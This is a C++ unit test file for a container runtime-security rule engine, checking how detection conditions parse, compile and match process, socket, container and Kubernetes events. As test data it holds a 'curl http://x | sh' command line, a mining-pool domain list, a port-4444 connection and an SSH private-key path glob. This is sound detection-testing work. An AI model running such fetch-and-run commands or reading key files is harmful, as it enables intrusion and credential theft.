#include "runtime/rules/condition.h"

#include <gtest/gtest.h>

#include <map>

#include "runtime/rules/network.h"

namespace customs::runtime {
namespace {

struct Env {
  std::map<std::string, std::unique_ptr<AstNode>, std::less<>> asts;
  std::map<std::string, const AstNode*, std::less<>> macros;
  std::map<std::string, std::vector<std::string>, std::less<>> lists;
  void Macro(const std::string& name, const std::string& text) {
    auto ast = ParseCondition(text);
    ASSERT_TRUE(ast) << ast.error().ToString();
    macros[name] = ast->get();
    asts[name] = std::move(*ast);
  }
  CompileEnv env() {
    CompileEnv e;
    e.macros = &macros;
    e.lists = &lists;
    return e;
  }
};

Event ExecEvent(std::string name, std::string args = "") {
  Event e;
  e.type = EventType::kExecve;
  e.name = std::move(name);
  e.exepath = "/usr/bin/" + e.name;
  e.args = std::move(args);
  e.container_id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
  e.ancestor_count = 2;
  e.ancestors[0].name = "nginx";
  e.ancestors[0].exepath = "/usr/sbin/nginx";
  e.ancestors[1].name = "containerd-shim";
  FinishEvent(e);
  return e;
}

bool Eval(const std::string& text, const Event& event, Env* env = nullptr) {
  Env local;
  if (env == nullptr) {
    env = &local;
  }
  auto ast = ParseCondition(text);
  EXPECT_TRUE(ast) << text << ": " << ast.error().ToString();
  if (!ast) {
    return false;
  }
  auto compiled = CompileCondition(**ast, env->env());
  EXPECT_TRUE(compiled) << text << ": " << compiled.error().ToString();
  if (!compiled) {
    return false;
  }
  return compiled->filter->Eval(event);
}

TEST(ConditionTest, PrecedenceNotAndOr) {
  Event e = ExecEvent("bash");
  // not > and > or: "not a and b or c" = ((not a) and b) or c
  EXPECT_TRUE(Eval("not proc.name = sh and proc.name = bash or proc.name = zsh", e));
  EXPECT_FALSE(Eval("not proc.name = bash and proc.name = bash or proc.name = zsh", e));
  EXPECT_TRUE(Eval("proc.name = zsh or proc.name = bash and not proc.name = sh", e));
  EXPECT_FALSE(Eval("not (proc.name = zsh or proc.name = bash)", e));
}

TEST(ConditionTest, StringOperators) {
  Event e = ExecEvent("bash", "-c 'curl http://x | sh'");
  EXPECT_TRUE(Eval("proc.cmdline contains curl", e));
  EXPECT_TRUE(Eval("proc.cmdline icontains CURL", e));
  EXPECT_FALSE(Eval("proc.cmdline contains CURL", e));
  EXPECT_TRUE(Eval("proc.exepath startswith /usr/", e));
  EXPECT_TRUE(Eval("proc.exepath endswith /bash", e));
  EXPECT_TRUE(Eval("proc.exepath glob '/usr/*/ba?h'", e));
  EXPECT_FALSE(Eval("proc.exepath glob '/usr/ba*'", e));
  EXPECT_TRUE(Eval("proc.exepath pmatch (/usr/bin, /sbin)", e));
  EXPECT_FALSE(Eval("proc.exepath pmatch (/usr/bi)", e));
  EXPECT_TRUE(Eval("proc.name regex 'ba(s|t)h'", e));
  EXPECT_FALSE(Eval("proc.name regex 'as'", e));     // anchored at both ends
  EXPECT_TRUE(Eval("proc.name bcontains 6173", e));  // "as"
  EXPECT_TRUE(Eval("proc.name in (sh, bash, zsh)", e));
  EXPECT_TRUE(Eval("proc.name intersects (bash)", e));
  EXPECT_TRUE(Eval("proc.name != sh", e));
  EXPECT_TRUE(Eval("proc.pname = nginx and proc.aname[2] = containerd-shim and proc.aname[0] = bash", e));
  EXPECT_TRUE(Eval("proc.aname = containerd-shim", e));  // any ancestor
  EXPECT_FALSE(Eval("proc.aname = bash", e));
  EXPECT_TRUE(Eval("proc.pname exists and not fd.name exists", e));
  EXPECT_TRUE(Eval("container.id = 0123456789ab and container.full_id startswith 0123456789abcdef", e));
}

TEST(ConditionTest, BigInListUsesAllItems) {
  Event e = ExecEvent("bash");
  std::string text = "proc.name in (";
  for (int i = 0; i < 100; ++i) {
    text += "p" + std::to_string(i) + ",";
  }
  text += "bash)";
  EXPECT_TRUE(Eval(text, e));
  e.name = "p57";
  EXPECT_TRUE(Eval(text, e));
  e.name = "p100";
  EXPECT_FALSE(Eval(text, e));
}

TEST(ConditionTest, NumbersBoolsAndIps) {
  Event e;
  e.type = EventType::kConnect;
  e.uid = 1000;
  ASSERT_TRUE(ParseAddress("10.1.2.3", &e.family, &e.remote_addr));
  e.remote_port = 4444;
  EXPECT_TRUE(Eval("evt.type = connect and fd.sport = 4444 and user.uid >= 1000 and user.uid < 1001", e));
  EXPECT_TRUE(Eval("fd.snet in (10.0.0.0/8) and not fd.sip = 10.1.2.4 and fd.sip = 10.1.2.3", e));
  EXPECT_FALSE(Eval("fd.snet in (192.168.0.0/16, 172.16.0.0/12)", e));
  EXPECT_TRUE(Eval("fd.sport in (80, 4444)", e));
  EXPECT_FALSE(Eval("fd.name startswith /", e));  // absent on connect: false
  EXPECT_TRUE(Eval("proc.is_exe_upper_layer = false", e));
}

TEST(ConditionTest, SocketEndpointsFollowFalco) {
  // A connect: the remote end serves. An accept: the local end serves.
  Event c;
  c.type = EventType::kConnect;
  c.fd_kind = FdKind::kIpv4;
  c.l4proto = 6;
  ASSERT_TRUE(ParseAddress("10.1.2.3", &c.family, &c.remote_addr));
  c.remote_port = 443;
  uint8_t family = 0;
  ASSERT_TRUE(ParseAddress("172.17.0.2", &family, &c.local_addr));
  c.local_port = 40000;
  EXPECT_TRUE(Eval("fd.sip = 10.1.2.3 and fd.sport = 443 and fd.cip = 172.17.0.2 and fd.cport = 40000", c));
  EXPECT_TRUE(Eval("fd.rip = 10.1.2.3 and fd.lip = 172.17.0.2 and fd.lport = 40000 and fd.rport = 443", c));
  EXPECT_TRUE(Eval("fd.ip = 172.17.0.2 and fd.ip = 10.1.2.3 and fd.port = 443 and fd.port = 40000", c));
  EXPECT_TRUE(Eval("fd.net != 127.0.0.0/8 and not fd.net = 192.168.0.0/16", c));  // neither end
  EXPECT_TRUE(Eval("fd.typechar = 4 and fd.type = ipv4 and fd.l4proto = tcp and fd.sockfamily = ip", c));
  Event a = c;
  a.type = EventType::kAccept4;
  a.server_is_local = true;
  EXPECT_TRUE(Eval("fd.sip = 172.17.0.2 and fd.sport = 40000 and fd.cip = 10.1.2.3", a));
  EXPECT_TRUE(Eval("fd.num = 0 and evt.rawres = 0", a));  // accept's fd is its result
  // A bind has no remote end.
  Event b = c;
  b.type = EventType::kBind;
  b.server_is_local = true;
  b.remote_port = 0;
  b.remote_addr = {};
  EXPECT_FALSE(Eval("fd.rip exists", b));
  EXPECT_TRUE(Eval("fd.lport = 40000 and fd.sport = 40000", b));
}

TEST(ConditionTest, TransformersAndFieldComparisons) {
  Event e = ExecEvent("BaSh", "-c /tmp/x");
  EXPECT_TRUE(Eval("tolower(proc.name) = bash", e));
  EXPECT_TRUE(Eval("toupper(proc.name) in (BASH, SH)", e));
  EXPECT_TRUE(Eval("basename(proc.exepath) = BaSh", e));
  EXPECT_TRUE(Eval("len(proc.name) = 4 and len(proc.args) > 5", e));
  EXPECT_TRUE(Eval("len(tolower(proc.name)) = 4", e));
  EXPECT_FALSE(Eval("tolower(proc.name) = BaSh", e));
  Event b64 = ExecEvent("sh", "");
  b64.args = "ZWNobyBwd25lZA==";  // "echo pwned"
  FinishEvent(b64);
  EXPECT_TRUE(Eval("b64(proc.args) contains pwned", b64));
  EXPECT_FALSE(Eval("b64(proc.name) = x", ExecEvent("not*base64")));  // undecodable: false
  Event same = ExecEvent("nginx");
  EXPECT_TRUE(Eval("proc.name = val(proc.pname)", same));
  EXPECT_FALSE(Eval("proc.name != val(proc.pname)", same));
  EXPECT_TRUE(Eval("proc.exepath endswith val(proc.name)", same));
  EXPECT_TRUE(Eval("proc.pid = val(proc.pid)", same));
}

TEST(ConditionTest, ContainerAndKubernetesFields) {
  Event e = ExecEvent("psql");
  auto m = std::make_shared<ContainerMetadata>();
  m->id = e.container_id;
  m->name = "database";
  m->image = "registry.local:5000/team/postgres:16@sha256:abc";
  m->engine = ContainerEngine::kContainerd;
  m->privileged = 1;
  m->labels = {{"app", "db"}, {"tier", "data"}};
  m->k8s_namespace = "prod";
  m->k8s_pod_name = "db-0";
  m->k8s_pod_uid = "0b7e2c1d";
  m->k8s_pod_labels = {{"app.kubernetes.io/name", "postgres"}};
  e.container = m;
  EXPECT_TRUE(Eval("container.name = database and container.type = containerd and container.runtime = containerd", e));
  EXPECT_TRUE(Eval("container.image.repository = registry.local:5000/team/postgres and container.image.tag = 16", e));
  EXPECT_TRUE(Eval("container.image.digest = sha256:abc and container.privileged = true", e));
  EXPECT_TRUE(Eval("container.label[app] = db and container.label.tier = data and container.labels[app] = db", e));
  EXPECT_TRUE(Eval("container.labels contains 'tier:data'", e));
  EXPECT_TRUE(
      Eval("k8s.ns.name = prod and k8s.pod.name = db-0 and k8s.pod.uid = 0b7e2c1d and k8s.pod.id = 0b7e2c1d", e));
  EXPECT_TRUE(
      Eval("k8s.pod.label[app.kubernetes.io/name] = postgres and k8s.pod.label.app.kubernetes.io/name = postgres", e));
  EXPECT_FALSE(Eval("container.label[missing] exists", e));
  Event host = ExecEvent("psql");
  host.container_id.clear();
  EXPECT_TRUE(Eval("container.name = host and container.privileged = false and not k8s.ns.name exists", host));
}

TEST(ConditionTest, DomainNamesCompareResolvedAddresses) {
  Env env;
  std::vector<std::shared_ptr<DomainSet>> sets;
  CompileEnv compile_env = env.env();
  compile_env.domain_sets = &sets;
  auto ast = ParseCondition("evt.type = connect and fd.sip.name in (pool.minexmr.com, xmr.pool.example)");
  ASSERT_TRUE(ast);
  auto compiled = CompileCondition(**ast, compile_env);
  ASSERT_TRUE(compiled) << compiled.error().ToString();
  ASSERT_EQ(sets.size(), 1u);
  Event e;
  e.type = EventType::kConnect;
  ASSERT_TRUE(ParseAddress("127.0.0.3", &e.family, &e.remote_addr));
  e.remote_port = 3333;
  EXPECT_FALSE(compiled->filter->Eval(e));  // not resolved yet
  auto resolved = std::make_shared<ResolvedAddresses>();
  IpAddress address;
  ASSERT_TRUE(ParseAddress("127.0.0.3", &address.family, &address.bytes));
  resolved->addresses.push_back(address);
  sets[0]->Publish(resolved);
  EXPECT_TRUE(compiled->filter->Eval(e));
}

TEST(ConditionTest, CanonicalTextOfExpandedConditions) {
  Env env;
  env.lists["shells"] = {"bash", "sh", "\"dash\""};
  env.lists["more"] = {"shells", "zsh"};
  env.Macro("spawned", "evt.type in (execve, execveat)");
  auto ast = ParseCondition("spawned and not proc.name in (more) and tolower(proc.pname) = 'my app'");
  ASSERT_TRUE(ast);
  // Lists of lists are flattened by the loader; here the env holds them flat already.
  env.lists["more"] = {"bash", "sh", "\"dash\"", "zsh"};
  auto expanded = ExpandAst(**ast, env.env());
  ASSERT_TRUE(expanded) << expanded.error().ToString();
  EXPECT_EQ(AstToString(**expanded),
            "(evt.type in (execve, execveat) and not proc.name in (bash, sh, dash, zsh) and tolower(proc.pname) = \"my "
            "app\")");
  auto bad = ParseCondition("nope and proc.name = x");
  ASSERT_TRUE(bad);
  EXPECT_FALSE(ExpandAst(**bad, env.env()));
}

TEST(ConditionTest, ListsAndMacrosExpand) {
  Env env;
  env.lists["shells"] = {"bash", "'zsh'", "\"sh\""};
  env.Macro("spawned", "evt.type in (execve, execveat)");
  env.Macro("shell", "spawned and proc.name in (shells, dash)");
  EXPECT_TRUE(Eval("shell", ExecEvent("bash"), &env));
  EXPECT_TRUE(Eval("shell", ExecEvent("sh"), &env));
  EXPECT_TRUE(Eval("shell", ExecEvent("dash"), &env));
  EXPECT_FALSE(Eval("shell", ExecEvent("python"), &env));
}

TEST(ConditionTest, EventTypeSetFromCondition) {
  auto ast = ParseCondition("(evt.type in (execve, open, mkdir) and proc.name = x) or evt.type = connect");
  ASSERT_TRUE(ast);
  auto compiled = CompileCondition(**ast, CompileEnv{});
  ASSERT_TRUE(compiled);
  EXPECT_TRUE(compiled->event_types.test(static_cast<size_t>(EventType::kExecve)));
  EXPECT_TRUE(compiled->event_types.test(static_cast<size_t>(EventType::kOpen)));
  EXPECT_TRUE(compiled->event_types.test(static_cast<size_t>(EventType::kConnect)));
  EXPECT_FALSE(compiled->event_types.test(static_cast<size_t>(EventType::kOpenat)));
  ASSERT_EQ(compiled->unknown_event_types.size(), 1u);
  EXPECT_EQ(compiled->unknown_event_types[0], "mkdir");

  auto negated = ParseCondition("not evt.type = execve");
  ASSERT_TRUE(negated);
  auto c2 = CompileCondition(**negated, CompileEnv{});
  ASSERT_TRUE(c2);
  EXPECT_FALSE(c2->event_types.test(static_cast<size_t>(EventType::kExecve)));
  EXPECT_TRUE(c2->event_types.test(static_cast<size_t>(EventType::kConnect)));
}

TEST(ConditionTest, ParseErrors) {
  for (const char* bad : {"", "proc.name", "proc.name = ", "(proc.name = a", "proc.name = a and", "proc.name in (a, b",
                          "proc.name = 'unterminated", "and", "lower(proc.name) = a", "tolower(proc.name = a",
                          "tolower() = a", "tolower(macro) = a", "proc.name = val(proc.pname", "proc.name ~ a"}) {
    EXPECT_FALSE(ParseCondition(bad)) << bad;
  }
  std::string deep(100000, '(');
  auto result = ParseCondition(deep + "proc.name = a" + std::string(100000, ')'));
  ASSERT_FALSE(result);
  EXPECT_NE(result.error().message().find("nested deeper"), std::string::npos);
}

TEST(ConditionTest, CompileErrorsNameTheProblem) {
  Env env;
  env.Macro("uses_unknown", "proc.sname = x");
  env.Macro("loop_a", "loop_b");
  env.Macro("loop_b", "loop_a");
  auto compile = [&](const std::string& text) {
    auto ast = ParseCondition(text);
    EXPECT_TRUE(ast);
    return CompileCondition(**ast, env.env());
  };
  auto unknown = compile("evt.type = execve and k8s.deployment.name = x");
  ASSERT_FALSE(unknown);
  EXPECT_EQ(unknown.error().code(), ErrorCode::kUnsupported);
  EXPECT_NE(unknown.error().message().find("'k8s.deployment.name'"), std::string::npos);
  auto via_macro = compile("uses_unknown");
  ASSERT_FALSE(via_macro);
  EXPECT_NE(via_macro.error().message().find("in macro 'uses_unknown'"), std::string::npos);
  auto loop = compile("loop_a");
  ASSERT_FALSE(loop);
  EXPECT_NE(loop.error().message().find("recursion"), std::string::npos);
  EXPECT_FALSE(compile("undefined_macro"));
  EXPECT_FALSE(compile("user.uid = abc"));
  EXPECT_FALSE(compile("fd.sip = 999.1.1.1"));
  EXPECT_FALSE(compile("proc.name regex '(unclosed'"));
  EXPECT_FALSE(compile("proc.name = (a, b)"));
  EXPECT_FALSE(compile("proc.name[3] = a"));
  EXPECT_FALSE(compile("container.label = a"));    // needs a key
  EXPECT_FALSE(compile("tolower(proc.pid) = 3"));  // transformers need a string field
  EXPECT_FALSE(compile("len(tolower(len(proc.name))) = 3"));
  EXPECT_FALSE(compile("proc.name = val(proc.pid)"));  // string vs number
  EXPECT_FALSE(compile("fd.sip.name contains evil"));  // domains compare with =, != and in
  EXPECT_FALSE(compile("proc.name in (a, val(proc.pname))"));
}

TEST(ConditionTest, MacroBlowUpIsBounded) {
  Env env;
  env.Macro("m0", "proc.name = a");
  for (int i = 1; i < 40; ++i) {
    env.Macro("m" + std::to_string(i), "(m" + std::to_string(i - 1) + " or m" + std::to_string(i - 1) + ")");
  }
  auto ast = ParseCondition("m39");
  ASSERT_TRUE(ast);
  auto compiled = CompileCondition(**ast, env.env());
  ASSERT_FALSE(compiled);
  EXPECT_NE(compiled.error().message().find("more than"), std::string::npos);
}

TEST(ConditionTest, RegexIsLinearTime) {
  // A classic catastrophic-backtracking pattern; RE2 runs it in linear time.
  Event e = ExecEvent("x", std::string(100000, 'a') + "!");
  EXPECT_FALSE(Eval("proc.args regex '(a+)+$'", e));
}

TEST(GlobTest, Fnmatch) {
  EXPECT_TRUE(GlobMatch("*", ""));
  EXPECT_TRUE(GlobMatch("a*b*c", "aXXbYYc"));
  EXPECT_FALSE(GlobMatch("a*b*c", "aXXbYY"));
  EXPECT_TRUE(GlobMatch("[a-c]x", "bx"));
  EXPECT_FALSE(GlobMatch("[!a-c]x", "bx"));
  EXPECT_TRUE(GlobMatch("\\*", "*"));
  EXPECT_TRUE(GlobMatch("/home/*/.ssh/*", "/home/bob/.ssh/id_rsa"));
  EXPECT_TRUE(GlobMatch("*../*../*", "/a/../b/../c"));
}

}  // namespace
}  // namespace customs::runtime
